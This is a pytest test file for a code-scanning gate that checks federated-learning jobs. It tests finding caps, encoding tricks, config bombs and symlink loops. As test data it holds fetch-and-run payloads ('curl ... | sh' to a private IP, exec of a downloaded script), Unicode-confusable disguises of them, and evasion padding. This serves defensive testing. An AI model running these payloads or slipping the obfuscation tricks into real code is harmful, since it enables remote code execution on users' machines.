"""Session 40's limits an author who has read the gate can push, each through the real CLI in a subprocess
and, where it reaches a site, through the site gate's entry point with its fork server: a job of many
findings (the report lists `limits.max_listed_findings`, counts the rest and decides on all of them),
identifiers Python normalises (NFKC), encoding cookies and BOMs, a billion-laughs YAML config, an integer of
100,000 digits, folders nested past PATH_MAX and a symlink loop, a job with a link checked again in its job
process. Each ends in a finding and an escalate or a reject, never an accept, and every other finding stands."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT
from tests.test_isolation import deployed, _site

PAYLOAD = "import os\nos.system('curl -s http://10.0.0.7/setup | sh')\n"
REJECTED = "remote-code.fetch-and-run-command"
# A training helper that an author has copied 40 times, each with a shell call, an eval and a pickle load.
NOISY = "import os, pickle\n\n" + "".join(
    f"def step_{i}(cfg):\n    os.system(cfg['cmd'])\n    eval(cfg['expr'])\n    return pickle.loads(cfg['blob'])\n\n"
    for i in range(40))


def _scan(target: Path, policy: Path | None = None) -> tuple[int, dict]:
    args = [sys.executable, "-m", "analyzer.commands.cli", "scan", "--no-cache", "--format", "json", str(target)]
    if policy is not None:
        args[4:4] = ["--policy", str(policy)]
    proc = subprocess.run(args, cwd=ROOT, capture_output=True, timeout=600)
    assert proc.returncode in (0, 1, 3), proc.stderr.decode()[-2000:]
    return proc.returncode, json.loads(proc.stdout)["reports"][0]


def _rules(report: dict) -> set[str]:
    return {f["rule"] for f in report["findings"]}


def _policy(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "site-policy.yaml"
    path.write_text(text)
    return path


def _unit(tmp_path: Path, files: dict[str, str | bytes]) -> Path:
    unit = tmp_path / "job"
    for name, text in files.items():
        (unit / name).parent.mkdir(parents=True, exist_ok=True)
        (unit / name).write_bytes(text.encode() if isinstance(text, str) else text)
    return unit


def test_a_report_past_the_listing_cap_keeps_its_decision_score_and_every_rule(tmp_path: Path) -> None:
    unit = _unit(tmp_path, {**{f"helpers_{i}.py": NOISY for i in range(4)}, "zz_train.py": PAYLOAD})
    code, full = _scan(unit)
    assert code == 1 and len(full["findings"]) > 400
    code, capped = _scan(unit, _policy(tmp_path, "limits:\n  max_listed_findings: 100\n"))
    assert code == 1 and capped["decision"] == "reject"
    assert len(capped["findings"]) == 100
    # The cap lowers nothing and hides no rule: the payload in the file read last is listed.
    assert (capped["score"], capped["threat_score"], capped["score_kinds"]) == \
        (full["score"], full["threat_score"], full["score_kinds"])
    assert _rules(capped) == _rules(full) and REJECTED in _rules(capped)
    assert capped["reasons"][:-1] == full["reasons"]
    assert capped["reasons"][-1].startswith(f"{len(full['findings'])} findings, 100 listed")


def test_an_escalated_job_past_the_listing_cap_is_held_with_a_bounded_report(tmp_path: Path) -> None:
    # A program launched at 200 places: capabilities that need a person, none a threat.
    train = "import subprocess\n" + "".join(f"subprocess.run(['nvidia-smi', '-i', '{i}'])\n" for i in range(200))
    gate = _site(tmp_path, _policy(tmp_path, "limits:\n  max_listed_findings: 100\n"))
    verdict = gate.check_deployed_app(deployed(tmp_path, "job-noisy", train), {})
    assert not verdict.allow and "held for review" in verdict.message
    [report] = [json.loads(p.read_text()) for p in (tmp_path / "queue").glob("*/report.json")]
    assert report["decision"] == "escalate" and len(report["findings"]) == 100
    assert "findings, 100 listed" in report["reasons"][-1]


@pytest.mark.parametrize("source", [
    "from \uff4fs import \uff53ystem as run\nrun('curl -s http://10.0.0.7/setup | sh')\n",  # fullwidth: `from os import system`
    "import os\n\U0001d428\U0001d42c.\U0001d42c\U0001d432\U0001d42c\U0001d42d\U0001d41e\U0001d426('curl -s http://10.0.0.7/s | sh')\n",
    "import os as \uff4f\no.system('curl -s http://10.0.0.7/setup | sh')\n",  # bound as `o`, used as `o`
], ids=["fullwidth-import", "math-bold-attribute", "fullwidth-alias"])
def test_identifiers_python_normalises_reach_what_they_name(tmp_path: Path, source: str) -> None:
    code, report = _scan(_unit(tmp_path, {"train.py": source}))
    assert code == 1 and REJECTED in _rules(report) and "obfuscation.confusable-identifier" in _rules(report)


@pytest.mark.parametrize("data, rule", [
    (b"\xef\xbb\xbf" + PAYLOAD.encode(), REJECTED),  # valid Python with its BOM
    (b"# coding: unicode_escape\nprint('ok')\\nimport os\\nos.system('curl -s http://10.0.0.7/s | sh')\n", REJECTED),
    (b"\xef\xbb\xbf# coding: latin-1\n" + PAYLOAD.encode(), "unanalyzable.parse-error"),  # CPython refuses it
    (PAYLOAD.encode("utf-16"), "unanalyzable.parse-error"),
    (PAYLOAD.encode() + b"x = '\x00'\n", "unanalyzable.parse-error"),
], ids=["bom", "unicode-escape-cookie", "bom-and-other-cookie", "utf16", "null-byte"])
def test_a_source_encoding_trick_is_read_as_cpython_reads_it_or_never_accepted(tmp_path: Path, data: bytes,
                                                                                rule: str) -> None:
    code, report = _scan(_unit(tmp_path, {"train.py": data}))
    assert code in (1, 3) and rule in _rules(report)


def _laughs() -> str:
    rows = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    rows += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 10)]
    return "\n".join(rows) + "\n"


@pytest.mark.parametrize("name, text", [
    ("config/config_fed_client.yaml", _laughs()),
    ("config/config_fed_client.json", '{"format_version": 2, "lr": ' + "9" * 100_000 + "}"),
    ("config/config_fed_client.json", '{"a": ' + "[" * 100_000 + "]" * 100_000 + "}"),
], ids=["billion-laughs-yaml", "huge-integer-json", "deep-json"])
def test_a_hostile_config_is_a_finding_beside_the_codes_own(tmp_path: Path, name: str, text: str) -> None:
    code, report = _scan(_unit(tmp_path, {name: text, "custom/train.py": PAYLOAD}))
    assert code == 1 and {"unanalyzable.config-parse", REJECTED} <= _rules(report)


def test_files_past_path_max_and_a_symlink_loop_escalate_and_the_rest_is_judged(tmp_path: Path) -> None:
    unit = _unit(tmp_path, {"train.py": PAYLOAD})
    os.symlink(".", unit / "loop")
    fd = os.open(unit, os.O_RDONLY)
    for _ in range(25):  # 25 x 201 characters: past PATH_MAX (4096), reachable only level by level
        os.mkdir("d" * 200, dir_fd=fd)
        fd, parent = os.open("d" * 200, os.O_RDONLY, dir_fd=fd), fd
        os.close(parent)
    os.close(os.open("deep.py", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
    os.close(fd)
    code, report = _scan(unit)
    assert code == 1 and {REJECTED, "unanalyzable.unreadable", "unanalyzable.symlink"} <= _rules(report)


def test_padding_an_inline_download_past_the_fold_limit_leaves_it_a_reject(tmp_path: Path) -> None:
    launch = ("import subprocess, sys\n"
              "warmup = ' ' * 5000\n"
              "subprocess.Popen([sys.executable, '-c', 'import urllib.request;' + warmup + "
              "'exec(urllib.request.urlopen(\"https://10.0.0.7/t.py\").read())'])\n")
    code, report = _scan(_unit(tmp_path, {"train.py": launch}))
    assert code == 1 and REJECTED in _rules(report)


def test_a_job_with_a_link_keeps_its_deploy_decision_in_the_job_process_until_the_link_changes(tmp_path: Path) -> None:
    app = deployed(tmp_path, "job-link", "import numpy as np\nprint(np.zeros(3))\n")
    os.symlink("train.py", app / "custom" / "main.py")
    gate = _site(tmp_path)
    assert "escalated" in gate.check_deployed_app(app, {}).message
    again = gate.check_job_process(str(app.parent.parent), "site-1", "job-link")
    # Was "rejected ...: changed since it was checked at deploy (custom/main.py)": an approved job with a link never ran.
    assert not again.allow and "escalated" in again.message and "content unchanged" in again.message
    os.remove(app / "custom" / "main.py")
    os.symlink("/data/site/train.csv", app / "custom" / "main.py")
    moved = gate.check_job_process(str(app.parent.parent), "site-1", "job-link")
    assert not moved.allow and "changed since it was checked at deploy (custom/main.py)" in moved.message
